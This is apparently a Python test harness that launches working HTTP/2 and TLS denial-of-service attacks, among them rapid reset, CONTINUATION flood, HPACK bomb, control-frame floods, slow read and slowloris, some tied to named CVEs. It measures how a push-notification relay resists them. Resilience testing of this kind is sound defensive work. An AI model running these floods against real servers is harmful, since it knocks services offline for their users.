#!/usr/bin/env python3
"""HTTP/2 and TLS attacks on a listener, as one attacking machine would make them: raw frames
(hyperframe's layout, hpack's encoder) over TLS with ALPN h2 or cleartext, each for a bounded
time, then every connection closed. Run as a subprocess of Tests/attack/attack_test.py (and
bench/relay-attacks.sh), so that its own CPU does not slow the legitimate client it measures:

  attacks.py NAME --port P [--tls] [--seconds 6] [--path /3/device/…] [--kind apns|fcm]

Prints one JSON line at the end: what it sent (connections, streams, frames, bytes) and how
the server answered (GOAWAY codes seen, connections closed on it).

Attacks:
  rapid_reset     CVE-2023-44487: a complete request and its RST_STREAM at once, in bursts
  continuation    CVE-2024-27316: HEADERS without END_HEADERS, then endless CONTINUATION
  hpack_bomb      a 4 KB field put in the HPACK table, then referenced thousands of times
  ping_flood      PING frames, the answers never read
  settings_flood  SETTINGS frames, the acknowledgements never read
  empty_data      CVE-2019-9518: DATA frames of no length, without end, on open streams
  unfinished      streams opened with part of a body, never finished
  slow_read       CVE-2019-9517: window 0, streams with 3 KB bodies, the socket never read
  tls_slowloris   TLS handshakes begun and dribbled one byte a second, never finished
  h1_slowloris    HTTP/1.1 requests whose headers come one line a second, never finished
"""

import argparse
import asyncio
import json
import os
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x4, 0x5


def frame(kind, flags, stream, payload=b""):
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def request_block(encoder, args, path=None, body_length=None, extra=()):
    """A header block of a POST as the relays take it."""
    authority = "localhost:%d" % args.port
    fields = [(":method", "POST"), (":scheme", "https" if args.tls else "http"), (":authority", authority),
              (":path", path or args.path)]
    if args.kind == "apns":
        fields += [("apns-topic", "com.example.pushmedia"), ("apns-push-type", "background")]
    else:
        fields += [("content-type", "application/json"), ("authorization", "Bearer attacker")]
    if body_length is not None:
        fields.append(("content-length", str(body_length)))
    return encoder.encode(fields + list(extra))


class Tally:
    def __init__(self):
        self.connections = self.refused = self.streams = self.frames = self.bytes = 0
        self.goaways = {}
        self.closed_by_server = 0
        self.errors = {}

    def error(self, e):
        name = type(e).__name__
        self.errors[name] = self.errors.get(name, 0) + 1


def client_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


async def connect(args, tally, limit=1 << 16):
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(args.host, args.port, ssl=client_context() if args.tls else None,
                                server_hostname="localhost" if args.tls else None, limit=limit), 10)
    tally.connections += 1
    return reader, writer


async def drain_reader(reader, tally):
    """Reads and parses what the server sends (so that it is not slowed by us), noting GOAWAYs."""
    buffer = b""
    try:
        while True:
            data = await reader.read(1 << 16)
            if not data:
                tally.closed_by_server += 1
                return
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                if buffer[3] == GOAWAY and length >= 8:
                    code = int.from_bytes(buffer[13:17], "big")
                    tally.goaways[code] = tally.goaways.get(code, 0) + 1
                buffer = buffer[9 + length:]
    except (ConnectionError, ssl.SSLError, OSError, asyncio.IncompleteReadError):
        tally.closed_by_server += 1


async def send(writer, tally, data, frames=1):
    writer.write(data)
    tally.frames += frames
    tally.bytes += len(data)
    await writer.drain()


async def h2_connection(args, tally, deadline, body, settings_pairs=(), read=True):
    """Opens a connection, sends the preface, runs body(writer, encoder) until the deadline; a
    connection the server closes is opened again, until the deadline."""
    while time.monotonic() < deadline:
        try:
            reader, writer = await connect(args, tally)
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
            tally.refused += 1
            tally.error(e)
            await asyncio.sleep(0.05)
            continue
        reading = asyncio.ensure_future(drain_reader(reader, tally)) if read else None
        try:
            await send(writer, tally, PREFACE + settings(*settings_pairs) + frame(SETTINGS, ACK, 0))
            await asyncio.wait_for(body(writer, Encoder()), max(0.1, deadline - time.monotonic()))
        except asyncio.TimeoutError:
            pass
        except (ConnectionError, ssl.SSLError, OSError) as e:
            tally.error(e)
        finally:
            if reading:
                reading.cancel()
            writer.transport.abort()


async def bounded(deadline, *coroutines):
    """Runs the coroutines together, each cancelled at the deadline (a second's grace)."""
    async def one(coroutine):
        try:
            await asyncio.wait_for(coroutine, max(0.1, deadline + 1 - time.monotonic()))
        except asyncio.TimeoutError:
            pass
    await asyncio.gather(*(one(c) for c in coroutines))


async def until(deadline):
    while time.monotonic() < deadline:
        yield


# -- the attacks ----------------------------------------------------------------------------------

async def rapid_reset(args, tally, deadline):
    async def body(writer, encoder):
        stream = 1
        async for _ in until(deadline):
            burst = bytearray()
            for _ in range(100):
                burst += frame(HEADERS, END_HEADERS, stream, request_block(encoder, args, body_length=2))
                burst += frame(DATA, END_STREAM, stream, b"{}")
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
                tally.streams += 1
            await send(writer, tally, bytes(burst), 300)
            if stream > 1 << 30:
                return
    await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 4)))


async def continuation(args, tally, deadline):
    async def body(writer, encoder):
        stream = 1
        async for _ in until(deadline):
            block = request_block(encoder, args)
            await send(writer, tally, frame(HEADERS, 0, stream, block))
            tally.streams += 1
            filler = Encoder().encode([("x-filler-%d" % i, "v" * 200) for i in range(70)])[:16000]
            for _ in range(200):
                if time.monotonic() > deadline:
                    return
                await send(writer, tally, frame(CONTINUATION, 0, stream, filler))
            stream += 2
    await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 4)))


async def hpack_bomb(args, tally, deadline):
    async def body(writer, encoder):
        stream = 1
        # A 4000-byte value with incremental indexing (0x40, new name), then index 62 repeated.
        name, value = b"x-bomb", b"b" * 4000
        insert = bytes([0x40, len(name)]) + name + bytes([0x7F]) + encode_integer(len(value) - 127) + value
        async for _ in until(deadline):
            block = request_block(encoder, args, body_length=2)
            first = block + insert + bytes([0xBE]) * (16000 - len(block) - len(insert))
            await send(writer, tally, frame(HEADERS, END_HEADERS, stream, first) + frame(DATA, END_STREAM, stream, b"{}"), 2)
            tally.streams += 1
            stream += 2
            # The table now holds the field at index 62: every later block is references alone.
            for _ in range(20):
                if time.monotonic() > deadline:
                    return
                block = request_block(encoder, args, body_length=2)
                await send(writer, tally, frame(HEADERS, END_HEADERS | END_STREAM, stream,
                                                 block + bytes([0xBE]) * 16000))
                tally.streams += 1
                stream += 2
    await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 4)))


def encode_integer(value, prefix_bits=7):
    """The continuation bytes of an HPACK integer past its prefix (RFC 7541 section 5.1)."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


async def control_flood(args, tally, deadline, one):
    """Connections that send the control frame `one`, a thousand at a time, and never read."""
    async def body(writer, encoder):
        payload = one * 1000
        async for _ in until(deadline):
            await send(writer, tally, payload, 1000)
    await bounded(deadline, *(h2_connection(args, tally, deadline, body, read=False)
                           for _ in range(args.connections or 8)))


async def ping_flood(args, tally, deadline):
    await control_flood(args, tally, deadline, frame(PING, 0, 0, b"pushmedi"))


async def settings_flood(args, tally, deadline):
    await control_flood(args, tally, deadline, settings((INITIAL_WINDOW_SIZE, 65535), (MAX_FRAME_SIZE, 16384)))


async def empty_data(args, tally, deadline):
    async def body(writer, encoder):
        streams = list(range(1, 2 * 100, 2))
        opening = b"".join(frame(HEADERS, END_HEADERS, s, request_block(encoder, args)) for s in streams)
        await send(writer, tally, opening, len(streams))
        tally.streams += len(streams)
        burst = b"".join(frame(DATA, 0, s, b"") for s in streams) * 10
        async for _ in until(deadline):
            await send(writer, tally, burst, 10 * len(streams))
    await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 4)))


async def unfinished(args, tally, deadline):
    async def body(writer, encoder):
        opening = bytearray()
        for stream in range(1, 2 * 128, 2):
            opening += frame(HEADERS, END_HEADERS, stream, request_block(encoder, args, body_length=4000))
            opening += frame(DATA, 0, stream, b"{" + b" " * 1000)
            tally.streams += 1
        await send(writer, tally, bytes(opening), 256)
        await asyncio.sleep(max(0, deadline - time.monotonic()))
    await bounded(deadline, *(h2_connection(args, tally, deadline, body) for _ in range(args.connections or 100)))


async def connect_all(args, tally, count, context=None):
    """`count` connections (TLS with `context`), opened before the attack's time starts: this
    process's own handshakes may take a while on a busy machine. The ones that opened."""
    async def one():
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(args.host, args.port, ssl=context, limit=4096,
                                        server_hostname="localhost" if context else None), 30)
            tally.connections += 1
            return reader, writer
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
            tally.refused += 1
            tally.error(e)
            return None
    opened = await asyncio.gather(*(one() for _ in range(count)))
    return [pair for pair in opened if pair]


async def slow_read(args, tally, deadline):
    """Window 0 for the server's answers, the socket never read (a 4 KB reader buffer)."""
    connections = await connect_all(args, tally, args.connections or 200, client_context() if args.tls else None)
    deadline = time.monotonic() + args.seconds
    body = b'{"aps":{"content-available":1},"pad":"' + b"p" * 3000 + b'"}'

    async def one(writer):
        try:
            encoder = Encoder()
            out = bytearray(PREFACE + settings((INITIAL_WINDOW_SIZE, args.window)) + frame(SETTINGS, ACK, 0))
            for stream in range(1, 2 * args.streams, 2):
                block = request_block(encoder, args, path=args.path, body_length=len(body))
                out += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
                tally.streams += 1
            await asyncio.wait_for(send(writer, tally, bytes(out), 2 * args.streams + 2),
                                   max(0.1, deadline - time.monotonic()))
            await asyncio.sleep(max(0, deadline - time.monotonic()))
        except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError) as e:
            tally.error(e)
        finally:
            writer.transport.abort()
    await bounded(deadline, *(one(writer) for _, writer in connections))


async def tls_slowloris(args, tally, deadline):
    """A TLS ClientHello (a real one, from Python's ssl) sent one byte a second."""
    context = client_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()

    async def one():
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(args.host, args.port), 10)
        except (OSError, asyncio.TimeoutError) as e:
            tally.refused += 1
            tally.error(e)
            return
        tally.connections += 1
        reading = asyncio.ensure_future(drain_reader(reader, tally))
        try:
            for byte in hello[:-1]:
                if time.monotonic() > deadline or reading.done():
                    break
                await send(writer, tally, bytes([byte]))
                await asyncio.sleep(1)
        except (ConnectionError, OSError) as e:
            tally.error(e)
        finally:
            reading.cancel()
            writer.transport.abort()
    await bounded(deadline, *(one() for _ in range(args.connections or 500)))


async def h1_slowloris(args, tally, deadline):
    """An HTTP/1.1 request whose header lines come one a second, never ending (over TLS with
    ALPN http/1.1 when --tls)."""
    context = None
    if args.tls:
        context = client_context()
        context.set_alpn_protocols(["http/1.1"])
    # Over TLS fewer: this process's own handshakes would take long.
    connections = await connect_all(args, tally, args.connections or (150 if args.tls else 500), context)
    deadline = time.monotonic() + args.seconds

    async def one(reader, writer):
        reading = asyncio.ensure_future(drain_reader(reader, tally))
        try:
            await send(writer, tally, b"POST %s HTTP/1.1\r\nHost: localhost\r\n" % args.path.encode())
            line = 0
            while time.monotonic() < deadline and not reading.done():
                await asyncio.sleep(1)
                await send(writer, tally, b"x-slow-%d: %s\r\n" % (line, b"s" * 20))
                line += 1
        except (ConnectionError, ssl.SSLError, OSError) as e:
            tally.error(e)
        finally:
            reading.cancel()
            writer.transport.abort()
    await bounded(deadline, *(one(reader, writer) for reader, writer in connections))


ATTACKS = {f.__name__: f for f in (rapid_reset, continuation, hpack_bomb, ping_flood, settings_flood, empty_data,
                                    unfinished, slow_read, tls_slowloris, h1_slowloris)}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--connections", type=int, default=0, help="0: the attack's own number")
    parser.add_argument("--streams", type=int, default=100, help="slow_read: streams per connection")
    parser.add_argument("--window", type=int, default=0, help="slow_read: the initial window the attacker gives")
    parser.add_argument("--kind", choices=("apns", "fcm"), default="apns")
    parser.add_argument("--path", default=None)
    args = parser.parse_args()
    if args.path is None:
        args.path = "/3/device/" + "ab" * 32 if args.kind == "apns" else "/v1/projects/attack/messages:send"
    # Each connection is a file descriptor.
    try:
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
    except (ImportError, ValueError, OSError):
        pass
    tally = Tally()
    started = time.monotonic()
    deadline = started + args.seconds
    try:
        asyncio.run(asyncio.wait_for(ATTACKS[args.attack](args, tally, deadline), args.seconds + 45))
    except asyncio.TimeoutError:
        tally.error(asyncio.TimeoutError())
    print(json.dumps({"attack": args.attack, "seconds": round(time.monotonic() - started, 2),
                      "connections": tally.connections, "refused": tally.refused, "streams": tally.streams,
                      "frames": tally.frames, "bytes": tally.bytes,
                      "goaways": {str(k): v for k, v in tally.goaways.items()},
                      "closed_by_server": tally.closed_by_server, "errors": tally.errors}), flush=True)


if __name__ == "__main__":
    main()
